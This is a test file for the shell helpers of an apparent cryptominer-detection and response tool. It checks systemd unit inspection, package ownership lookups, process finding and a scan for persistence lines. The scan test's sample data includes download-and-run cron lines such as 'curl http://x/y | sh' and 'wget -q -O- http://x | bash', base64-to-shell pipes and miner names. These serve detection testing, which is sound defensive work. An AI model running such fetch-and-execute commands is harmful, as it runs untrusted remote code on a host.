import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { remoteScript } from '../../../src/actions/script.js';

// The prelude's helpers run with this machine's real sh (dash on Debian). systemctl and dpkg-query
// are shell functions standing in for the host's (a function wins over PATH), so each case says
// exactly what systemd or dpkg printed. Each helper must give what the one-program-per-step
// pipelines it replaced gave, odd input included: those pipelines are spelled out here as references.

const PRELUDE = readFileSync(new URL('../../../src/actions/remote/prelude.sh', import.meta.url), 'utf8');
const scratch = mkdtempSync(join(tmpdir(), 'soar-prelude-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Runs the prelude, then BODY, with real sh; returns stdout with NUL records split. */
function sh(body: string, ...args: string[]): { out: string; records: string[]; stderr: string } {
  const run = spawnSync('sh', ['-c', `${PRELUDE}\n${body}`, 'soar-test', ...args], { encoding: 'latin1' });
  if (run.status !== 0) throw new Error(`sh exited ${run.status}: ${run.stderr}`);
  return { out: run.stdout, records: run.stdout.split('\0').filter((record) => record !== ''), stderr: run.stderr };
}

/** A systemctl stand-in: `show -p A,B [--value] -- UNIT` answers from PROPS (a JSON object of property to lines). */
const fakeSystemctl = (props: Record<string, string[]>) => `
calls_file=$(mktemp)
systemctl() {
  echo >>"$calls_file"
  [ "$1" = show ] || return 1
  shift
  node -e '
    const props = JSON.parse(process.argv[1]); const args = process.argv.slice(2);
    const wanted = args[args.indexOf("-p") + 1].split(","); const value = args.includes("--value");
    const out = [];
    for (const [name, lines] of Object.entries(props)) if (wanted.includes(name)) for (const line of lines) out.push(value ? line : name + "=" + line);
    process.stdout.write(out.map((line) => line + "\\n").join(""));
  ' '${JSON.stringify(props).replace(/'/g, `'\\''`)}' "$@"
}
`;

describe('unit_state', () => {
  const props = {
    MainPID: ['87'], NRestarts: ['0'], ControlGroup: ['/system.slice/c3pool_miner.service'], LoadState: ['loaded'],
    ActiveState: ['active'], SubState: ['running'], FragmentPath: ['/etc/systemd/system/c3pool_miner.service'], DropInPaths: [''], UnitFileState: ['enabled'],
  };
  const show = 'unit_state c3pool_miner.service; for v in "$s_LoadState" "$s_ActiveState" "$s_SubState" "$s_UnitFileState" "$s_FragmentPath" "$s_DropInPaths" "$s_MainPID" "$s_ControlGroup" "$s_NRestarts"; do emit v "$v"; done; emit calls "$(wc -l <"$calls_file")"; rm -f "$calls_file"';

  it('reads every property from one systemctl call', () => {
    expect(sh(`${fakeSystemctl(props)}${show}`).records).toEqual([
      'v=loaded', 'v=active', 'v=running', 'v=enabled', 'v=/etc/systemd/system/c3pool_miner.service', 'v=', 'v=87', 'v=/system.slice/c3pool_miner.service', 'v=0', 'calls=1',
    ]);
  });

  it('a value holding a newline cannot forge another property: each is then asked for alone', () => {
    const forged = { ...props, FragmentPath: ['/etc/systemd/system/x', 'MainPID=1'] };
    const { records } = sh(`${fakeSystemctl(forged)}${show}`);
    expect(records).toEqual([
      'v=loaded', 'v=active', 'v=running', 'v=enabled', 'v=/etc/systemd/system/x\nMainPID=1', 'v=', 'v=87', 'v=/system.slice/c3pool_miner.service', 'v=0', 'calls=10',
    ]);
  });

  it('a missing or repeated property also falls back to one call each', () => {
    const { MainPID: _, ...missing } = props;
    expect(sh(`${fakeSystemctl(missing)}${show}`).records.at(-1)).toBe('calls=10');
    expect(sh(`${fakeSystemctl({ ...props, MainPID: ['87', '88'] })}${show}`).records.at(-1)).toBe('calls=10');
  });
});

describe('unit_programs', () => {
  // The pipeline unit_programs replaced, verbatim.
  const reference = `
exec_binaries() {
  local commands
  commands=$(for prop in ExecStart ExecStartPre ExecStartPost; do unit_prop "$1" "$prop"; done)
  {
    printf '%s\\n' "$commands" | sed -n 's/^{ path=\\([^ ;]*\\) ;.*/\\1/p'
    printf '%s\\n' "$commands" | sed -n 's/^.* argv\\[\\]=\\(.*\\) ; ignore_errors=.*/\\1/p' |
      tr -s " \\t\\"'\\\`;&|()<>=" '[\\n*]' | grep '^/' | while IFS= read -r word; do
        if [ -f "$word" ] && [ -x "$word" ]; then echo "$word"; fi
      done
  } | awk '!seen[$0]++'
}`;
  const tool = join(scratch, 'tools');
  spawnSync('mkdir', ['-p', join(tool, 'a b')]);
  for (const name of ['xmrig', 'kthreaddk', 'a b/miner', 'plain']) {
    copyFileSync('/bin/true', join(tool, name));
    chmodSync(join(tool, name), 0o755);
  }
  writeFileSync(join(tool, 'config.json'), '{}');
  const entry = (path: string, argv: string) => `{ path=${path} ; argv[]=${argv} ; ignore_errors=no ; start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; code=(null) ; status=0/0 }`;
  const cases: Array<[string, Record<string, string[]>]> = [
    ['one program', { ExecStart: [entry(`${tool}/xmrig`, `${tool}/xmrig --config=${tool}/config.json`)] }],
    ['a shell wrapper naming programs', { ExecStart: [entry('/bin/sh', `/bin/sh -c "${tool}/kthreaddk 1 & exec ${tool}/plain;${tool}/xmrig|${tool}/plain"`)] }],
    ['pre and post commands, in the order ExecStart, ExecStartPre, ExecStartPost', {
      ExecStartPre: [entry(`${tool}/plain`, `${tool}/plain x`), entry('/bin/true', `/bin/true ${tool}/kthreaddk`)],
      ExecStart: [entry(`${tool}/xmrig`, `${tool}/xmrig`)],
      ExecStartPost: [entry('/bin/echo', `/bin/echo '${tool}/xmrig' "${tool}/a b/miner" (${tool}/plain) a=${tool}/kthreaddk`)],
    }],
    ['an argument holding newlines and forged entries', {
      ExecStart: [`{ path=/bin/echo ; argv[]=/bin/echo a`, `{ path=${tool}/forged ; argv[]=${tool}/xmrig argv[]=${tool}/plain ; ignore_errors=no }`, `b ; ignore_errors=no ; pid=0 }`],
    }],
    ['argv[]= and ignore_errors= inside an argument', { ExecStart: [entry('/bin/sh', `/bin/sh -c "x argv[]=${tool}/plain ; ignore_errors= ${tool}/xmrig" ${tool}/kthreaddk`)] }],
    ['a path with a space or semicolon is not a path= entry', { ExecStart: ['{ path=/bin/a;b ; argv[]=/bin/a;b ; ignore_errors=no }', `{ path=${tool}/a b/miner ; argv[]=x ; ignore_errors=no }`] }],
    ['nothing at all', {}],
  ];

  for (const [why, props] of cases) {
    it(`gives what exec_binaries gave: ${why}`, () => {
      const script = `${fakeSystemctl(props)}${reference}
unit_programs x.service
emit new "$binaries"
emit exec_start "$exec_start"
emit old "$(exec_binaries x.service)"
emit old_start "$(unit_prop x.service ExecStart)"`;
      const records = Object.fromEntries(sh(script).records.map((record) => [record.slice(0, record.indexOf('=')), record.slice(record.indexOf('=') + 1)]));
      expect(records.new!.replace(/\n$/, '')).toBe(records.old);
      expect(records.exec_start).toBe(records.old_start);
    });
  }
});

describe('dir_of', () => {
  it('gives what dirname gives', () => {
    const paths = ['', '/', '//', '///', 'a', 'a/', '/a', '/a/', '/a/b', '/a/b/', '/a//b', '/a//b//', '//a', 'a/b', './a', '/a b/c\nd', '/root/c3pool/xmrig'];
    const script = 'for p; do dir_of "$p"; emit new "$dir"; emit old "$(dirname -- "$p")"; done';
    const records = sh(script, ...paths).records;
    const news = records.filter((record) => record.startsWith('new=')).map((record) => record.slice(4));
    const olds = records.filter((record) => record.startsWith('old=')).map((record) => record.slice(4));
    expect(news).toEqual(olds);
  });
});

describe('package_entry', () => {
  // dpkg-query -S as Debian 12 answers it, for one or many paths at once; each call leaves a line in ./calls.
  const bin = join(scratch, 'bin');
  spawnSync('mkdir', ['-p', bin]);
  writeFileSync(join(bin, 'dpkg-query'), `#!/bin/sh
echo >>"$CALLS"
shift 2
status=0
for path; do
  case $path in
    /bin/sh) printf '%s\\n' 'diversion by dash from: /bin/sh' 'diversion by dash to: /bin/sh.distrib' 'dash: /bin/sh' ;;
    /bin/sleep) echo 'coreutils: /bin/sleep' ;;
    /lib/x86_64-linux-gnu/libc.so.6) echo 'libc6:amd64: /lib/x86_64-linux-gnu/libc.so.6' ;;
    /usr/share/doc) echo 'libc6:amd64, base-files, dash: /usr/share/doc' ;;
    /lib/systemd/system/agent.service) echo 'soar-test-agent: /lib/systemd/system/agent.service' ;;
    *) echo "dpkg-query: no path found matching pattern $path" >&2; status=1 ;;
  esac
done
exit $status
`);
  chmodSync(join(bin, 'dpkg-query'), 0o755);
  const fakeDpkg = `PATH=${bin}:$PATH PKG_TOOL=dpkg CALLS=$(mktemp); export CALLS\n`;
  const queries = 'emit queries "$(wc -l <"$CALLS")"; rm -f "$CALLS"';
  it('names the first package, as the database spells the path, from one dpkg-query for many paths', () => {
    const paths = ['/bin/sh', '/usr/bin/sleep', '/lib/x86_64-linux-gnu/libc.so.6', '/usr/share/doc', '/usr/lib/systemd/system/agent.service', '/root/c3pool/xmrig', '/tmp/a\nb', '/tmp/*', ''];
    const script = `${fakeDpkg}package_queue "$@"; package_fetch; for p; do package_entry "$p"; emit entry "$entry"; done; ${queries}`;
    expect(sh(script, ...paths).records).toEqual([
      'entry=dash /bin/sh', 'entry=coreutils /bin/sleep', 'entry=libc6 /lib/x86_64-linux-gnu/libc.so.6', 'entry=libc6 /usr/share/doc',
      'entry=soar-test-agent /lib/systemd/system/agent.service', 'entry=', 'entry=', 'entry=', 'entry=', 'queries=1',
    ]);
  });

  it('asks again only about paths it has not asked about', () => {
    const script = `${fakeDpkg}package_entry /bin/sh; package_entry /bin/sh; package_owner /usr/bin/sleep; emit owner "$owner"; ${queries}`;
    expect(sh(script).records).toEqual(['owner=coreutils', 'queries=2']);
  });
});

describe('foreign_programs', () => {
  // A stand-in for a directory where programs are kept (/usr/local, /opt …), and two programs in it.
  const kept = join(scratch, 'kept');
  const interpreter = join(kept, 'bin/node');
  const miner = join(kept, 'sbin/kworker');
  spawnSync('mkdir', ['-p', join(kept, 'bin'), join(kept, 'sbin')]);
  copyFileSync('/bin/sleep', interpreter);
  writeFileSync(miner, Buffer.concat([readFileSync('/bin/sleep'), Buffer.from('\0pool stratum+tcp://%s:%d\0rx/0 randomx\0')]));
  const elsewhere = ['/root/soar-test/xmrig', '/tmp/soar-test/x', '/usr/share/soar-test/x'];
  const run = (setup: string, programs: string[]) =>
    sh(`${setup}; PROGRAM_DIRS="$PROGRAM_DIRS ${kept}"; binaries=$(printf '%s\\n' "$@")$nl; foreign_programs; printf '%s' "$foreign" | while IFS= read -r program; do emit foreign "$program"; done`, ...programs).records;

  it('on a host with no package database, leaves alone those in the system\'s program directories that carry no miner signature, as unverified', () => {
    // Parents that do not exist here, so readlink -f leaves each path as it is, and no signature is read.
    const system = ['/bin', '/sbin', '/lib', '/lib32', '/lib64', '/usr/bin', '/usr/sbin', '/usr/lib', '/usr/lib32', '/usr/lib64', '/usr/libexec', '/usr/local/bin', '/opt'].map((dir) => `${dir}/soar-test/program`);
    expect(run('PKG_TOOL=none', [...system, interpreter, miner, ...elsewhere])).toEqual([
      ...[...system, interpreter].map((path) => `unverified=${path}`),
      ...[miner, ...elsewhere].map((path) => `foreign=${path}`),
    ]);
  });

  it('on a host with a package database, leaves alone a program no package owns there that carries no miner signature (an interpreter built by hand), as unowned', () => {
    // A dpkg-query that knows no path, as the host's answers for files no package ships.
    const bin = join(scratch, 'no-package-bin');
    spawnSync('mkdir', ['-p', bin]);
    writeFileSync(join(bin, 'dpkg-query'), '#!/bin/sh\nexit 1\n');
    chmodSync(join(bin, 'dpkg-query'), 0o755);
    expect(run(`PATH=${bin}:$PATH PKG_TOOL=dpkg`, [interpreter, miner, ...elsewhere])).toEqual([`unowned=${interpreter}`, ...[miner, ...elsewhere].map((path) => `foreign=${path}`)]);
  });
});

describe('unit_pids and binary_pids', () => {
  it('find the processes running a program, also after it was deleted, and drop 0, 1 and junk', async () => {
    const dir = join(scratch, 'odd dir [x]');
    spawnSync('mkdir', ['-p', dir]);
    const plain = join(scratch, 'kworker');
    const odd = join(dir, 'miner');
    copyFileSync('/bin/sleep', plain);
    copyFileSync('/bin/sleep', odd);
    const started = [spawn(plain, ['30'], { stdio: 'ignore' }), spawn(odd, ['30'], { stdio: 'ignore' })];
    try {
      await new Promise((resolve) => setTimeout(resolve, 200));
      rmSync(plain);
      const [one, two] = started.map((child) => String(child.pid));
      const run = (...binaries: string[]) => sh('unit_pids "$@"; emit pids "$pids"', '0', '', ...binaries).records[0];
      expect(run(plain)).toBe(`pids=${one}`);
      // A glob character in the path: every process is read one at a time, the same result.
      expect(run(odd)).toBe(`pids=${two}`);
      expect(run(plain, odd)).toBe(`pids=${[one, two].map(Number).sort((a, b) => a - b).join(' ')}`);
      expect(sh('unit_pids "$@"; emit pids "$pids"', '1', '').records[0]).toBe('pids=');
      expect(sh('unit_pids "$@"; emit pids "$pids"', `${two}`, '', plain).records[0]).toBe(`pids=${[one, two].map(Number).sort((a, b) => a - b).join(' ')}`);
    } finally {
      for (const child of started) child.kill('SIGKILL');
    }
  });
});

describe('scan: one awk for every file instead of three programs a file', () => {
  const scan = remoteScript('scan');
  const patterns = Object.fromEntries([...scan.matchAll(/^([A-Z]+)_PATTERN='([^']*)'$/gm)].map((match) => [match[1]!, match[2]!]));
  const program = /awk -v kinds="\$kinds" '([\s\S]*?)\n' "\$@"/.exec(scan)![1]!;
  const kinds: Record<string, string> = { EXEC: 'E', CRON: 'C', LOGIN: 'L', HUGEPAGES: 'H' };
  const lines = [
    'ExecStart=/tmp/x', '  ExecStartPre=-/bin/sh -c "/root/c3pool/miner.sh"', '# ExecStart=/tmp/x', '   # ExecStart=/tmp/x', 'Exec=/home/u/x', 'ExecStart = /tmp/x',
    '\tExecStart=/var/tmp/.x/y', 'ExecStart=/usr/bin/x /dev/shm/', 'execstart=/tmp/x', 'X-ExecStart=/tmp/x',
    '* * * * * root curl http://x/y | sh', '@reboot /root/c3pool/miner.sh', '*/5 * * * * wget -q -O- http://x | bash', '0 0 * * * root /usr/bin/true',
    'echo aGVsbG8= | base64 -d | sh', 'x |sh', 'x |  bash', 'x|zsh', 'nohup /var/tmp/x &', 'nohup x /tmp/y', 'MINER=1', 'xmrig', 'c3pool', 'moneroocean',
    'vm.nr_hugepages=1280', ' vm.nr_hugepages = 128', 'vm.nr_hugepagesX=1', '#vm.nr_hugepages=1', 'kernel.x = 1', '', ' ', '\r', 'ExecStart=/tmp/x\r',
    'caf\xe9 /tmp/ \xff\xfe', 'a\\b /tmp/', '"ExecStart=/tmp/"',
  ];

  it('finds the same lines as `grep -v comments | grep -E pattern | head -n 50`, in order', () => {
    const files: string[] = [];
    const kindsOf: string[] = [];
    Object.keys(kinds).forEach((name, index) => {
      const file = join(scratch, `lines-${index}`);
      writeFileSync(file, Buffer.from(`${lines.join('\n')}\n`, 'latin1'));
      files.push(file);
      kindsOf.push(kinds[name]!);
    });
    const many = join(scratch, 'many');
    writeFileSync(many, Array.from({ length: 80 }, (_, index) => `* * * * * curl ${index}`).join('\n'));
    files.push(many);
    kindsOf.push('C');
    const binary = join(scratch, 'binary');
    writeFileSync(binary, Buffer.from('* * * * * curl x | sh\n\0\n', 'latin1'));
    files.push(binary);
    kindsOf.push('C');
    const empty = join(scratch, 'empty');
    writeFileSync(empty, '');
    files.splice(1, 0, empty);
    kindsOf.splice(1, 0, 'L');

    const awk = spawnSync('awk', ['-v', `kinds=${kindsOf.join('')}`, program, ...files], { encoding: 'latin1', env: { ...process.env, LC_ALL: 'C' } });
    expect(awk.status).toBe(0);
    const expected: string[] = [];
    files.forEach((file, index) => {
      const name = Object.keys(kinds).find((key) => kinds[key] === kindsOf[index])!;
      const grep = spawnSync('sh', ['-c', `grep -v '^[[:space:]]*#' -- "$1" 2>/dev/null | grep -E -- "$2" | head -n 50`, 'sh', file, patterns[name]!], { encoding: 'latin1', env: { ...process.env, LC_ALL: 'C' } });
      if (file === binary) expected.push(`${index + 1}!`);
      else for (const line of grep.stdout.split('\n').filter((line) => line !== '')) expected.push(`${index + 1} ${line}`);
    });
    expect(awk.stdout.split('\n').filter((line) => line !== '')).toEqual(expected);
    expect(expected.filter((line) => line.startsWith(`${files.indexOf(many) + 1} `))).toHaveLength(50);
  });
});
